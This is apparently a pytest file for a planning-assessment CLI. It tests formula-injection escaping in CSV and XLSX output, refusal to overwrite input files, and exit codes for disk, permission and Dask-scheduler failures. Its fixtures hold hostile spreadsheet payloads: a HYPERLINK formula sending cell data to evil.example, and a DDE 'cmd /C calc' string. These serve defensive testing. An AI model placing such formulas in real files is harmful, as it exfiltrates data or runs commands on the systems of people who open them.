"""What the CLI writes under faults (issue 14): text never runs as a formula, an output never
overwrites an input, and the machine's failures (full disk, read-only folder, a folder where a file
should be, an unreachable Dask scheduler) exit 4 with one line naming the path or address.
"""
from __future__ import annotations

import csv
import errno
import os
import tempfile
from pathlib import Path

import openpyxl
import pandas as pd
import pytest

import mstarget as mt
from mstarget.cli.main import EPILOG, exit_code, main
from mstarget.exceptions import EnvironmentProblem, ParameterError, TrackingError
from mstarget.io import spreadsheet_safe, spreadsheet_text
from robustness_helpers import closed_port, silent_listener

ROOT = Path(__file__).resolve().parents[1]
DINGHU = ROOT / "data" / "dinghu_14th_fyp_plan.csv"
NATIONAL_HISTORY = ROOT / "data" / "china" / "national_history.csv"
FOOD_SAMPLES = ROOT / "data" / "china" / "food_sampling_by_category.csv"

EVIL_NAME = '=HYPERLINK("http://evil.example/?d="&A1,"点击查看")'
EVIL_UNIT = "@SUM(1+1)*cmd|' /C calc'!A0"


def fast_assess(plan: Path, out, *more: str) -> list[str]:
    return ["assess", "--plan", str(plan), "--model", "naive", "--no-track", "--out", str(out), *more]


@pytest.fixture
def injected_plan(tmp_path) -> Path:
    """The real Dinghu plan with a formula as one indicator's name and another's unit."""
    plan = pd.read_csv(DINGHU, dtype=str, keep_default_na=False)
    plan.loc[0, "name"] = EVIL_NAME
    plan.loc[1, "unit"] = EVIL_UNIT
    path = tmp_path / "plan_injected.csv"
    plan.to_csv(path, index=False, encoding="utf-8-sig")
    return path


# -- formula injection (issue 14 cause 5) ------------------------------------------------------

def test_csv_output_keeps_formula_text_as_text(injected_plan, tmp_path):
    out = tmp_path / "assessment.csv"
    assert main(fast_assess(injected_plan, out)) == 0
    with open(out, encoding="utf-8-sig", newline="") as f:
        cells = [c for row in csv.reader(f) for c in row]
    assert "'" + EVIL_NAME in cells and "'" + EVIL_UNIT in cells
    assert not [c for c in cells if c[:1] in ("=", "+", "@", "\t", "\r")]
    table = pd.read_csv(out)
    assert pd.api.types.is_float_dtype(table["target"]) and pd.api.types.is_float_dtype(table["p_meet"])


def test_xlsx_output_has_no_formula_cells_and_numbers_stay_numbers(injected_plan, tmp_path):
    out = tmp_path / "assessment.xlsx"
    assert main(fast_assess(injected_plan, out)) == 0
    sheet = openpyxl.load_workbook(out).active
    cells = [c for row in sheet.iter_rows() for c in row]
    assert not [c.coordinate for c in cells if c.data_type == "f"]
    evil = [c for c in cells if isinstance(c.value, str) and EVIL_NAME in c.value]
    assert [(c.value, c.data_type) for c in evil] == [("'" + EVIL_NAME, "s")]
    header = [c.value for c in sheet[1]]
    targets = [row[header.index("target")].value for row in sheet.iter_rows(min_row=2)]
    assert all(isinstance(v, (int, float)) for v in targets)


def test_xlsx_report_names_and_narratives_stay_text(injected_plan, tmp_path):
    out = tmp_path / "report.xlsx"
    assert main(["report", "--plan", str(injected_plan), "--model", "naive", "--no-track",
                 "--title", "=1+1 鼎湖区评估", "--out", str(out)]) == 0
    book = openpyxl.load_workbook(out)
    cells = [c for sheet in book.worksheets for row in sheet.iter_rows() for c in row]
    assert not [c.coordinate for c in cells if c.data_type == "f"]
    texts = [c.value for c in cells if isinstance(c.value, str)]
    assert not [t for t in texts if t.startswith(("=", "+", "@"))]
    assert "'" + EVIL_NAME in texts  # the name in the main table, as text
    assert any(t.startswith("'" + EVIL_NAME) and len(t) > len(EVIL_NAME) + 1 for t in texts)  # its narrative


@pytest.mark.parametrize("text, safe", [
    ("=1+1", "'=1+1"), ("+86 758 1234", "'+86 758 1234"), ("-2+3+cmd|' /C calc'!A0", "'-2+3+cmd|' /C calc'!A0"),
    ("@SUM(A1)", "'@SUM(A1)"), ("\t=1", "'\t=1"), ("\r=1", "'\r=1"),
    ("-3.5", "-3.5"), ("+12%", "+12%"), ("-", "-"), ("期末市场主体总量", "期末市场主体总量"), ("", ""),
])
def test_spreadsheet_text_prefixes_only_formula_like_text(text, safe):
    assert spreadsheet_text(text) == safe


def test_spreadsheet_safe_leaves_numbers_and_the_callers_frame_alone():
    df = pd.DataFrame({"=name": ["=A1", "ok"], "value": [-1.5, 2.0], "n": [-3, 4]})
    safe = spreadsheet_safe(df)
    assert list(safe.columns) == ["'=name", "value", "n"]
    assert safe["'=name"].tolist() == ["'=A1", "ok"]
    assert safe["value"].tolist() == [-1.5, 2.0] and safe["n"].dtype == df["n"].dtype
    assert df.iloc[0, 0] == "=A1"


# -- an output that would destroy an input (issue 14 cause 6) ---------------------------------

def test_out_equal_to_the_plan_is_refused_and_the_plan_kept(tmp_path, capsys):
    plan = tmp_path / "P.csv"
    plan.write_bytes(DINGHU.read_bytes())
    (tmp_path / "sub").mkdir()
    os.symlink(plan, tmp_path / "link.csv")
    for spelling in (plan, tmp_path / "sub" / ".." / "P.csv", tmp_path / "link.csv"):
        assert main(fast_assess(plan, spelling)) == 2
        err = capsys.readouterr().err
        assert f"--out {spelling}" in err and "--plan" in err and "overwrite" in err
    assert plan.read_bytes() == DINGHU.read_bytes()


@pytest.mark.parametrize("argv", [
    ["forecast", "--history", "{h}", "--model", "naive", "--out", "{h}"],
    ["backtest", "--history", "{h}", "--models", "naive", "--out", "{d}"],  # its _details file is {h}
    ["risk", "score", "--samples", "{s}", "--out", "{s}"],
    ["assess", "--plan", str(DINGHU), "--history", "{h}", "--out", "{h}"],
])
def test_every_command_refuses_to_write_over_its_input(argv, tmp_path, capsys):
    history = tmp_path / "h_details.csv"
    history.write_bytes(NATIONAL_HISTORY.read_bytes())
    samples = tmp_path / "s.csv"
    samples.write_bytes(FOOD_SAMPLES.read_bytes())
    args = [a.format(h=history, d=tmp_path / "h.csv", s=samples) for a in argv] + ["--no-track"]
    assert main(args) == 2
    assert "would overwrite it" in capsys.readouterr().err
    assert history.read_bytes() == NATIONAL_HISTORY.read_bytes()
    assert samples.read_bytes() == FOOD_SAMPLES.read_bytes()


# -- the machine's failures: exit 4, one line naming the path (issue 14 cause 8) --------------

def one_error_line(err: str) -> str:
    lines = [ln for ln in err.splitlines() if ln.startswith(("error", "internal error"))]
    assert len(lines) == 1 and "Traceback" not in err and "Exception ignored" not in err, err
    return lines[0]


def test_disk_full_while_writing_csv(tmp_path, monkeypatch, capsys):
    out = tmp_path / "assessment.csv"
    out.write_text("earlier result\n", encoding="utf-8")

    def full(self, path, *args, **kwargs):
        Path(path).write_text("region,indic", encoding="utf-8")  # half written, then the disk fills
        raise OSError(errno.ENOSPC, "No space left on device")

    monkeypatch.setattr(pd.DataFrame, "to_csv", full)
    assert main(fast_assess(DINGHU, out)) == 4
    line = one_error_line(capsys.readouterr().err)
    assert f"cannot write '{out}'" in line and "no space left" in line
    assert out.read_text(encoding="utf-8") == "earlier result\n"
    assert sorted(f.name for f in tmp_path.iterdir()) == ["assessment.csv"]


def test_disk_full_while_writing_xlsx_is_one_line_not_a_zipfile_traceback(tmp_path, monkeypatch,
                                                                          capsys):
    out = tmp_path / "assessment.xlsx"
    real_write = Path.write_bytes

    def full(self, data):
        real_write(self, data[: len(data) // 2])
        raise OSError(errno.ENOSPC, "No space left on device", str(self))

    monkeypatch.setattr(Path, "write_bytes", full)
    assert main(fast_assess(DINGHU, out)) == 4
    line = one_error_line(capsys.readouterr().err)
    assert f"cannot write '{out}'" in line and "no space left" in line
    assert list(tmp_path.iterdir()) == []


def test_out_naming_a_folder_is_refused_before_any_work(tmp_path, capsys):
    folder = tmp_path / "results"
    folder.mkdir()
    assert main(fast_assess(DINGHU, folder)) == 4
    line = one_error_line(capsys.readouterr().err)
    assert f"'{folder}'" in line and "is a folder" in line
    assert "forecasting series" not in capsys.readouterr().err  # refused before the work
    assert list(folder.iterdir()) == []


def test_out_under_a_file_is_refused(tmp_path, capsys):
    notes = tmp_path / "notes.txt"
    notes.write_text("a file, not a folder", encoding="utf-8")
    assert main(fast_assess(DINGHU, notes / "assessment.csv")) == 4
    line = one_error_line(capsys.readouterr().err)
    assert f"'{notes}' is a file, not a folder" in line


def test_chart_that_cannot_be_written_stops_before_out_is_written(tmp_path, capsys):
    notes = tmp_path / "notes.txt"
    notes.write_text("a file", encoding="utf-8")
    out = tmp_path / "assessment.csv"
    assert main(fast_assess(DINGHU, out, "--chart", str(notes / "fan.png"))) == 4
    assert "--chart" in one_error_line(capsys.readouterr().err)
    assert not out.exists()


@pytest.mark.skipif(os.geteuid() == 0, reason="root may write into a read-only folder")
def test_read_only_folder(tmp_path, capsys):
    ro = tmp_path / "ro"
    ro.mkdir()
    ro.chmod(0o555)
    try:
        assert main(fast_assess(DINGHU, ro / "assessment.csv")) == 4
        line = one_error_line(capsys.readouterr().err)
        assert f"'{ro}' is not writable" in line
    finally:
        ro.chmod(0o755)


def _sysfs_refuses_files() -> bool:
    try:
        fd, name = tempfile.mkstemp(dir="/sys")
    except OSError:
        return os.path.isdir("/sys")
    os.close(fd)
    os.unlink(name)
    return False


@pytest.mark.skipif(not _sysfs_refuses_files(), reason="needs a /sys that refuses new files")
def test_a_folder_that_refuses_files_even_to_root(capsys):
    """/sys looks writable to root (os.access) but refuses new files: the write itself fails."""
    assert main(fast_assess(DINGHU, "/sys/mstarget_assessment.csv")) == 4
    line = one_error_line(capsys.readouterr().err)
    assert "cannot write '/sys/mstarget_assessment.csv'" in line and "permission denied" in line


def test_unreachable_dask_scheduler_exit_4_naming_the_address(tmp_path, monkeypatch, capsys):
    """A scheduler that accepts but never answers used to hang; nothing listening took 30 s."""
    pytest.importorskip("distributed")
    monkeypatch.setenv("MSTARGET_DASK_TIMEOUT", "1")
    base = ["backtest", "--history", str(NATIONAL_HISTORY), "--models", "naive", "--paths", "50",
            "--backend", "dask", "--no-track"]
    with silent_listener() as (port, accepted):
        address = f"tcp://127.0.0.1:{port}"
        assert main(base + ["--scheduler", address]) == 4
        assert len(accepted) == 1
    line = one_error_line(capsys.readouterr().err)
    assert f"cannot reach the Dask scheduler at {address}" in line and "no answer within 1 s" in line
    address = f"tcp://127.0.0.1:{closed_port()}"
    assert main(base + ["--scheduler", address]) == 4
    assert f"cannot reach the Dask scheduler at {address}" in one_error_line(capsys.readouterr().err)


def test_bad_dask_timeout_setting_is_a_usage_error(monkeypatch, capsys):
    pytest.importorskip("distributed")
    monkeypatch.setenv("MSTARGET_DASK_TIMEOUT", "soon")
    assert main(["backtest", "--history", str(NATIONAL_HISTORY), "--models", "naive", "--paths", "50",
                 "--backend", "dask", "--scheduler", "tcp://127.0.0.1:1", "--no-track"]) == 2
    assert "MSTARGET_DASK_TIMEOUT" in capsys.readouterr().err


# -- one mapping from exception class to exit code --------------------------------------------

@pytest.mark.parametrize("exc, code", [
    (TrackingError("store down"), 3),
    (EnvironmentProblem("disk full", path="x.csv"), 4),
    (OSError(errno.ENOSPC, "No space left on device", "x.csv"), 4),
    (PermissionError(errno.EACCES, "Permission denied", "x.csv"), 4),
    (IsADirectoryError(errno.EISDIR, "Is a directory", "out"), 4),
    (ParameterError("bad"), 2),
    (mt.DataValidationError("bad cell"), 2),
    (OSError(errno.ECONNRESET, "Connection reset"), 1),
    (KeyError("a bug"), 1),
])
def test_exit_codes_by_exception_class(exc, code):
    assert exit_code(exc) == code


def test_exit_codes_are_documented_in_the_help(capsys):
    with pytest.raises(SystemExit):
        main(["--help"])
    help_text = capsys.readouterr().out
    assert "exit codes:" in help_text and "4  environment" in help_text
    readme = (ROOT / "README.md").read_text(encoding="utf-8")
    assert "| `4` | environment" in readme
    assert all(f"  {code}  " in EPILOG for code in (0, 1, 2, 3, 4))
